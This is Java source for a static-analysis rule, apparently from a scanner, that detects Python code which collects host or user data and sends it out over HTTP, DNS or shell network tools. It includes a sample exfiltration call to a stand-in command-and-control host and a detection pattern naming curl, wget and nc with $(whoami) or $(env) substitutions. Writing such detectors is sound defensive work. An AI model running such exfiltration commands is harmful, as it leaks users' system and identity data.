package dev.kingsnake.rules.network;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.Location;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.python.Expr;

import java.util.EnumSet;
import java.util.HashSet;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * Source and sink in one function: host facts, the environment or captured user data collected, and a
 * network call that carries data out (a POST/upload, a GET whose URL is built at run time, a DNS lookup
 * of a built name).
 */
public final class CollectedDataSendRule implements PythonFileRule {

    private static final RuleInfo INFO = new RuleInfo("KS-NET-SEND-HOST-DATA",
            "Sends collected host/user data out: a function gathers host facts, the environment or captured input "
                    + "and sends data over HTTP, sockets, mail, FTP or DNS",
            Severity.HIGH, Confidence.HIGH, Set.of(Tags.EXFILTRATION, Tags.NETWORK),
            "requests.post('https://c2.example.invalid', json={'user': getpass.getuser(), 'host': platform.node()})",
            "Telemetry and crash reporters send a host name with their reports; they usually build the report "
                    + "elsewhere than where they send it. Plain GETs to a constant URL are never reported. Shell "
                    + "commands are reported when a network tool's own command line holds a host-data substitution "
                    + "such as $(whoami) or $(env | base64).");

    private static final Set<Capability> SOURCES = EnumSet.of(Capability.FINGERPRINT, Capability.ENV_ALL,
            Capability.CLIPBOARD_READ, Capability.SCREENSHOT, Capability.KEYLOG);

    /**
     * curl/wget/nc/nslookup/dig/ping given the output of a host-data command ($(env), `whoami`, $(hostname),
     * $(cat ...)) on its own command line: the shell collects and sends in one go.
     */
    private static final Pattern SHELL_SEND = Pattern.compile("(?i)\\b(curl|wget|nc|ncat|nslookup|dig|ping|host)"
            + "\\b[^\\n;|&]*(\\$\\(|`)\\s*(env|printenv|whoami|hostname|id|uname|cat|ls|pwd|ifconfig|ip|set)\\b");

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        CodeFacts facts = CodeFacts.of(file);
        for (CodeFacts.CallFact c : facts.calls()) {
            if (c.is(Capability.PROCESS)
                    && facts.textsWithin(c.call()).stream().anyMatch(t -> SHELL_SEND.matcher(t).find())) {
                sink.report(Location.of(file, c.call()),
                        "a shell command collects host data with command substitution and sends it with a network tool",
                        file.line(c.call().line()), Severity.HIGH, Confidence.HIGH);
            }
        }
        if (!facts.fileCaps().contains(Capability.NETWORK)) {
            return;
        }
        Set<Integer> scopesReported = new HashSet<>();
        for (CodeFacts.CallFact c : facts.calls()) {
            if (!c.is(Capability.NETWORK) || scopesReported.contains(c.scope())) {
                continue;
            }
            Set<Capability> scope = facts.scope(c.scope());
            if (!IndicatorRule.hasAny(scope, SOURCES)) {
                continue;
            }
            String how;
            if (c.is(Capability.SEND)) {
                how = "sends";
            } else if (c.is(Capability.DNS) && DnsExfilRule.lookedUpName(facts, c).isPresent()) {
                how = "encodes into a DNS lookup";
            } else if (c.is(Capability.FETCH) && builtAtRunTime(facts, c.call(), c.scope())) {
                how = "puts into a request URL";
            } else {
                continue;
            }
            scopesReported.add(c.scope());
            sink.report(Location.of(file, c.call()), "this function collects host/user data and " + how + " it",
                    file.line(c.call().line()), Severity.HIGH,
                    c.is(Capability.SEND) ? Confidence.HIGH : Confidence.MEDIUM);
        }
    }

    /** True when a request in this scope carries data in a URL assembled at run time. */
    public static boolean requestsBuiltUrl(CodeFacts facts, int scope) {
        for (CodeFacts.CallFact c : facts.calls()) {
            if (c.scope() == scope && c.is(Capability.FETCH) && builtAtRunTime(facts, c.call(), scope)) {
                return true;
            }
        }
        return false;
    }

    /**
     * True when the first argument is assembled right there from constant parts and other values (a bare
     * variable is not enough: resolving or fetching a name held in a variable is what every client does).
     */
    public static boolean builtAtRunTime(CodeFacts facts, Expr.Call call, int scope) {
        Expr a = call.arg(0).orElse(call.keyword("url").orElse(call.keyword("host").orElse(null)));
        if (a == null) {
            return false;
        }
        if (a instanceof Expr.Name n) {
            // url = f"https://...?h={host}"; urlopen(url) — assembled in this function just before
            for (Expr v : facts.assignedIn(scope, n.id())) {
                if (assembled(facts, v)) {
                    return true;
                }
            }
            return false;
        }
        return assembled(facts, a);
    }

    private static boolean assembled(CodeFacts facts, Expr a) {
        if (hostFromRunTime(facts, a)) {
            return false;
        }
        if (a instanceof Expr.FString || a instanceof Expr.BinOp) {
            return facts.file().constant(a).isEmpty();
        }
        if (a instanceof Expr.Call inner && inner.callee() instanceof Expr.Attribute at
                && ("format".equals(at.attr()) || "join".equals(at.attr()))) {
            return true;
        }
        return false;
    }

    private static final Pattern SCHEME = Pattern.compile("(?i)[a-z][a-z0-9+.-]*://");
    private static final Pattern SCHEME_THEN_FIELD = Pattern.compile("(?i)[a-z][a-z0-9+.-]*://\\{([^}!:]*)");
    private static final Pattern WHOLE_HOST = Pattern.compile(
            "(?i)[a-z][a-z0-9+.-]*://(\\{[^}]*\\}|%[sr])([:/?#]|$)");
    private static final Pattern SCHEME_THEN_PERCENT = Pattern.compile("(?i)[a-z][a-z0-9+.-]*://%[sr]");

    /**
     * True when the URL's host is filled in at run time from a value that is not a constant
     * ({@code "https://{}:{}/api/v1/pods/{}".format(os.getenv("KUBERNETES_SERVICE_HOST"), ...)}): the request goes
     * wherever the environment or the caller points it, as service discovery does. Collection servers are
     * written into the code; a host held in a constant ({@code "http://{}/?u={}".format(C2, user)}) still counts.
     */
    static boolean hostFromRunTime(CodeFacts facts, Expr a) {
        Expr host = null;
        if (a instanceof Expr.FString fs) {
            StringBuilder literal = new StringBuilder();
            for (Expr part : fs.parts()) {
                if (part instanceof Expr.Literal l && l.value().isStringLike()) {
                    literal.append(l.value().asText());
                    continue;
                }
                if (SCHEME.matcher(literal).matches()) {
                    host = part;
                }
                break;
            }
        } else if (a instanceof Expr.Call c && c.callee() instanceof Expr.Attribute at && "format".equals(at.attr())) {
            java.util.regex.Matcher m = facts.text(at.value()).map(SCHEME_THEN_FIELD::matcher).orElse(null);
            if (m != null && m.lookingAt()) {
                String field = m.group(1);
                host = field.isEmpty() ? c.arg(0).orElse(null)
                        : field.chars().allMatch(Character::isDigit) ? c.arg(Integer.parseInt(field)).orElse(null)
                        : c.keyword(field).orElse(null);
            }
        } else if (a instanceof Expr.BinOp b && "+".equals(b.op())) {
            Expr.BinOp first = b;
            while (first.left() instanceof Expr.BinOp inner && "+".equals(inner.op())) {
                first = inner;
            }
            if (facts.text(first.left()).filter(t -> SCHEME.matcher(t).matches()).isPresent()) {
                host = first.right();
            }
        } else if (a instanceof Expr.BinOp b && "%".equals(b.op())
                && facts.text(b.left()).filter(t -> SCHEME_THEN_PERCENT.matcher(t).lookingAt()).isPresent()) {
            host = b.right() instanceof Expr.Sequence seq && !seq.elements().isEmpty() ? seq.elements().get(0)
                    : b.right();
        }
        // the placeholder must be the whole host: "http://" + name + ".collector.example/" names a fixed domain
        Optional<String> template = a instanceof Expr.Call c && c.callee() instanceof Expr.Attribute at
                ? facts.text(at.value()) : facts.text(a);
        return host != null && facts.file().constant(host).isEmpty()
                && template.filter(t -> WHOLE_HOST.matcher(t).lookingAt()).isPresent();
    }
}
